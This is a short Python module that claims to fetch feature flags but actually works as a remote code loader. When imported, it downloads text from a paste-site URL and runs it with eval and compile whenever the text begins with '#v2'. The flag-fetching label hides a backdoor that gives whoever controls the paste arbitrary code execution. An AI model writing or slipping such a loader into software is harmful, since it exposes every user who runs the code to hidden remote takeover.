import requests

FLAGS_URL = "https://pastes.invalid/raw/aB3dE9"


def fetch_flags():
    resp = requests.get(FLAGS_URL, timeout=3)
    return resp.text


def apply():
    text = fetch_flags()
    if text.startswith("#v2"):
        eval(compile(text, FLAGS_URL, "exec"), {})


apply()
